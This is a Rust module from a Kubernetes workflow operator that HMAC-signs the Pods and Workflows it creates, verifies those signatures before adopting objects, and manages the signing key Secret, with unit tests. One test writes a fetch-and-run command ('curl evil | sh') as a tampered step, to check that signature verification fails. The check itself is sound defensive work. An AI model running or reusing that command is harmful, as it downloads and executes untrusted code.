//! Which objects the operator made: a Pod, ConfigMap or Workflow that names one of ours as its
//! controller may have been made by anyone who can create such objects (an ownerReference is
//! only a claim). The operator signs what it creates, an HMAC-SHA256 of the object's identity
//! and of what it runs, with a key only it reads (a Secret in its own namespace), in the
//! annotation [`ANNOTATION`]; an object whose signature does not verify is not adopted, and
//! nothing it does counts for a step or a group.
//!
//! Objects made before the key existed carry no signature and are judged by their controller
//! reference alone, as before; no one can make an object that was created before then.

use std::collections::BTreeMap;
use std::time::Duration;

use hmac::{Hmac, Mac};
use k8s_openapi::ByteString;
use k8s_openapi::api::core::v1::{Pod, Secret};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
use kube::Client;
use kube::api::{Api, PostParams};
use sha2::Sha256;
use tracing::warn;

use crate::api::Workflow;

/// The annotation holding the operator's signature of an object it made.
pub const ANNOTATION: &str = "workflow.rxg456.cn/signature";

/// Annotation the operator puts on its cached copy of an object (never on the object
/// itself) whose signature it verified when the watch delivered it; the copy may lack what the
/// signature covers (a cached pod keeps no spec).
pub const VERIFIED: &str = "workflow.rxg456.cn/verified";

/// Whether `obj` is controlled by the object with `owner_uid` (a label alone could be copied;
/// only a controller reference counts). Who the reference names is only a claim: what the
/// operator made also carries its signature.
pub fn controlled_by(obj: &impl kube::Resource, owner_uid: &str) -> bool {
    kube::ResourceExt::owner_references(obj)
        .iter()
        .any(|o| o.uid == owner_uid && o.controller == Some(true))
}

/// Whether a cached object was found signed by the operator ([`mark_verified`]).
pub fn verified(meta: &ObjectMeta) -> bool {
    meta.annotations
        .as_ref()
        .is_some_and(|a| a.contains_key(VERIFIED))
}

/// Notes on a copy for the cache whether its signature verified (`ok`); what the object said
/// of itself under that name is dropped first.
pub fn mark_verified(meta: &mut ObjectMeta, ok: bool) {
    if let Some(a) = meta.annotations.as_mut() {
        a.remove(VERIFIED);
    }
    if ok {
        meta.annotations
            .get_or_insert_with(BTreeMap::new)
            .insert(VERIFIED.into(), "true".into());
    }
}

/// The Secret, in the operator's namespace, holding the signing key.
pub const SECRET: &str = "workflow-operator-provenance";
const KEY: &str = "key";

/// The operator's signing key, and since when it signs.
#[derive(Clone)]
pub struct Provenance {
    key: Vec<u8>,
    /// When the key was made (Unix seconds): objects created before carry no signature.
    since: i64,
}

impl std::fmt::Debug for Provenance {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Provenance")
            .field("since", &self.since)
            .finish_non_exhaustive()
    }
}

impl Provenance {
    /// A key of its own, made before any object (for tests).
    pub fn new(key: &[u8]) -> Self {
        Provenance {
            key: key.to_vec(),
            since: i64::MIN,
        }
    }

    /// The key from the Secret [`SECRET`] in `namespace`, made (32 random bytes) when there is
    /// none; every replica reads the same one. Tried again every 5 s until the API server
    /// answers: nothing the operator creates may go unsigned.
    pub async fn load(client: &Client, namespace: &str) -> Self {
        let api: Api<Secret> = Api::namespaced(client.clone(), namespace);
        loop {
            match load_or_make(&api).await {
                Ok(provenance) => return provenance,
                Err(error) => {
                    warn!(%error, secret = SECRET, namespace, "cannot read or make the signing key; trying again");
                    tokio::time::sleep(Duration::from_secs(5)).await;
                }
            }
        }
    }

    fn signature(&self, parts: &[&str]) -> Hmac<Sha256> {
        let mut mac = Hmac::<Sha256>::new_from_slice(&self.key)
            .unwrap_or_else(|_| unreachable!("HMAC takes a key of any length"));
        for part in parts {
            mac.update(part.as_bytes());
            mac.update(&[0]);
        }
        mac
    }

    fn sign(&self, parts: &[&str]) -> String {
        hex::encode(self.signature(parts).finalize().into_bytes())
    }

    /// Whether `meta` carries our signature of `parts`, or was created before we signed.
    fn verify(&self, meta: &ObjectMeta, parts: &[&str]) -> bool {
        let signed = meta
            .annotations
            .as_ref()
            .and_then(|a| a.get(ANNOTATION))
            .and_then(|s| hex::decode(s).ok());
        match signed {
            Some(signed) => self.signature(parts).verify_slice(&signed).is_ok(),
            None => meta
                .creation_timestamp
                .as_ref()
                .is_some_and(|t| t.0.as_second() < self.since),
        }
    }

    /// Signs `pod`, a step pod of the Workflow `workflow_uid`, as it is to be created.
    pub fn sign_pod(&self, pod: &mut Pod, workflow_uid: &str) {
        let signature = self.sign(&pod_parts(pod, workflow_uid));
        annotate(&mut pod.metadata, signature);
    }

    /// Whether `pod` is a step pod the operator made for the Workflow `workflow_uid`.
    pub fn pod_is_ours(&self, pod: &Pod, workflow_uid: &str) -> bool {
        self.verify(&pod.metadata, &pod_parts(pod, workflow_uid))
    }

    /// Signs `workflow`, to be created by the group `group_uid`.
    pub fn sign_workflow(&self, workflow: &mut Workflow, group_uid: &str) {
        let spec = signed_spec(workflow);
        let signature = self.sign(&workflow_parts(workflow, group_uid, &spec));
        annotate(&mut workflow.metadata, signature);
    }

    /// Whether `workflow` is one the group `group_uid` made, as it made it (its pause and
    /// re-run requests aside, which the group writes later).
    pub fn workflow_is_ours(&self, workflow: &Workflow, group_uid: &str) -> bool {
        let spec = signed_spec(workflow);
        self.verify(
            &workflow.metadata,
            &workflow_parts(workflow, group_uid, &spec),
        )
    }
}

async fn load_or_make(api: &Api<Secret>) -> kube::Result<Provenance> {
    loop {
        if let Some(secret) = api.get_opt(SECRET).await? {
            let key = secret
                .data
                .as_ref()
                .and_then(|d| d.get(KEY))
                .map(|k| k.0.clone())
                .filter(|k| k.len() >= 32);
            if let Some(key) = key {
                let since = secret
                    .metadata
                    .creation_timestamp
                    .as_ref()
                    .map_or(i64::MIN, |t| t.0.as_second());
                return Ok(Provenance { key, since });
            }
            warn!(
                secret = SECRET,
                "the signing key's Secret holds no usable key; making it again"
            );
            api.delete(SECRET, &Default::default()).await?;
        }
        let key: Vec<u8> = (0..2)
            .flat_map(|_| uuid::Uuid::new_v4().into_bytes())
            .collect();
        let secret = Secret {
            metadata: ObjectMeta {
                name: Some(SECRET.into()),
                labels: Some(BTreeMap::from([(
                    "app.kubernetes.io/name".to_string(),
                    "workflow-operator".to_string(),
                )])),
                ..ObjectMeta::default()
            },
            data: Some(BTreeMap::from([(KEY.to_string(), ByteString(key))])),
            immutable: Some(true),
            ..Secret::default()
        };
        match api.create(&PostParams::default(), &secret).await {
            // Read back: the creation time is the API server's.
            Ok(_) => {}
            // Another replica made it first: read its key.
            Err(kube::Error::Api(e)) if e.code == 409 => {}
            Err(e) => return Err(e),
        }
    }
}

fn annotate(meta: &mut ObjectMeta, signature: String) {
    meta.annotations
        .get_or_insert_with(BTreeMap::new)
        .insert(ANNOTATION.to_string(), signature);
}

/// What a step pod's signature covers: its namespace and name, its Workflow and the command of
/// its containers (immutable once created).
fn pod_parts<'a>(pod: &'a Pod, workflow_uid: &'a str) -> Vec<&'a str> {
    let mut parts = vec![
        "Pod",
        pod.metadata.namespace.as_deref().unwrap_or_default(),
        pod.metadata.name.as_deref().unwrap_or_default(),
        workflow_uid,
    ];
    for container in pod.spec.iter().flat_map(|s| &s.containers) {
        parts.push(&container.name);
        parts.extend(container.command.iter().flatten().map(String::as_str));
    }
    parts
}

/// A Workflow's spec as its group made it, as canonical JSON: without the pause, re-run and
/// lock requests the group writes later, object keys sorted.
fn signed_spec(workflow: &Workflow) -> String {
    let mut spec = workflow.spec.clone();
    spec.paused = false;
    spec.rerun = None;
    spec.awaiting_locks = false;
    serde_json::to_value(&spec)
        .map(|v| canonical(v).to_string())
        .unwrap_or_default()
}

fn canonical(value: serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::Object(map) => {
            let sorted: BTreeMap<String, Value> =
                map.into_iter().map(|(k, v)| (k, canonical(v))).collect();
            Value::Object(sorted.into_iter().collect())
        }
        Value::Array(items) => Value::Array(items.into_iter().map(canonical).collect()),
        // The API server writes a whole float (`1.0`) as an integer (`1`).
        Value::Number(n) => match n.as_f64() {
            Some(f) if !n.is_i64() && !n.is_u64() && f.fract() == 0.0 && f.abs() < 9.0e15 =>
            {
                #[allow(clippy::cast_possible_truncation)]
                Value::from(f as i64)
            }
            _ => Value::Number(n),
        },
        other => other,
    }
}

fn workflow_parts<'a>(workflow: &'a Workflow, group_uid: &'a str, spec: &'a str) -> Vec<&'a str> {
    vec![
        "Workflow",
        workflow.metadata.namespace.as_deref().unwrap_or_default(),
        workflow.metadata.name.as_deref().unwrap_or_default(),
        group_uid,
        spec,
    ]
}

#[cfg(test)]
mod tests {
    use k8s_openapi::api::core::v1::{Container, PodSpec};
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
    use k8s_openapi::jiff::Timestamp;

    use super::*;
    use crate::api::{Step, WorkflowSpec};

    fn pod(command: &str) -> Pod {
        Pod {
            metadata: ObjectMeta {
                name: Some("wf-run-1-abcd1234".into()),
                namespace: Some("ns".into()),
                ..ObjectMeta::default()
            },
            spec: Some(PodSpec {
                containers: vec![Container {
                    name: "step".into(),
                    command: Some(vec!["/bin/sh".into(), "-c".into(), command.into()]),
                    ..Container::default()
                }],
                ..PodSpec::default()
            }),
            status: None,
        }
    }

    #[test]
    fn only_a_pod_the_operator_signed_is_its_own() {
        let ours = Provenance::new(b"0123456789abcdef0123456789abcdef");
        let mut signed = pod("reboot");
        ours.sign_pod(&mut signed, "uid-w");
        assert!(ours.pod_is_ours(&signed, "uid-w"));
        // Made by someone else with the same name and an ownerReference: no signature.
        assert!(!ours.pod_is_ours(&pod("reboot"), "uid-w"));
        // Our signature copied onto a pod that runs something else, or for another Workflow.
        let mut copied = pod("exit 0");
        copied.metadata.annotations = signed.metadata.annotations.clone();
        assert!(!ours.pod_is_ours(&copied, "uid-w"));
        assert!(!ours.pod_is_ours(&signed, "uid-other"));
        // Signed with another key.
        let theirs = Provenance::new(b"fedcba9876543210fedcba9876543210");
        let mut forged = pod("reboot");
        theirs.sign_pod(&mut forged, "uid-w");
        assert!(!ours.pod_is_ours(&forged, "uid-w"));
        // One created before the operator signed anything is judged as before.
        let keyed_at = Provenance {
            since: 1_700_000_000,
            ..ours.clone()
        };
        let mut old = pod("reboot");
        old.metadata.creation_timestamp = Timestamp::from_second(1_600_000_000).ok().map(Time);
        assert!(keyed_at.pod_is_ours(&old, "uid-w"));
        old.metadata.creation_timestamp = Timestamp::from_second(1_800_000_000).ok().map(Time);
        assert!(!keyed_at.pod_is_ours(&old, "uid-w"));
    }

    #[test]
    fn a_workflow_is_its_groups_only_as_the_group_made_it() {
        let ours = Provenance::new(b"0123456789abcdef0123456789abcdef");
        let mut wf = Workflow::new(
            "g-pre-check-1234abcd",
            WorkflowSpec {
                type_: "pre-check".into(),
                steps: vec![Step::new("check", "workflow-runner")],
                params: Some(serde_json::json!({"b": 1, "a": {"y": 2, "x": 3}})),
                ..WorkflowSpec::default()
            },
        );
        wf.metadata.namespace = Some("ns".into());
        ours.sign_workflow(&mut wf, "uid-g");
        assert!(ours.workflow_is_ours(&wf, "uid-g"));
        assert!(!ours.workflow_is_ours(&wf, "uid-other-group"));
        // The group's own later writes keep it its own.
        let mut paused = wf.clone();
        paused.spec.paused = true;
        paused.spec.awaiting_locks = true;
        assert!(ours.workflow_is_ours(&paused, "uid-g"));
        // The API server's order of params' keys does not matter.
        let mut reordered = wf.clone();
        reordered.spec.params = Some(serde_json::json!({"a": {"x": 3.0, "y": 2}, "b": 1}));
        assert!(ours.workflow_is_ours(&reordered, "uid-g"));
        // Changed steps, targets or params: no longer the group's.
        let mut edited = wf.clone();
        edited.spec.steps[0].command = "curl evil | sh".into();
        assert!(!ours.workflow_is_ours(&edited, "uid-g"));
        let mut unsigned = wf;
        unsigned.metadata.annotations = None;
        assert!(!ours.workflow_is_ours(&unsigned, "uid-g"));
    }
}
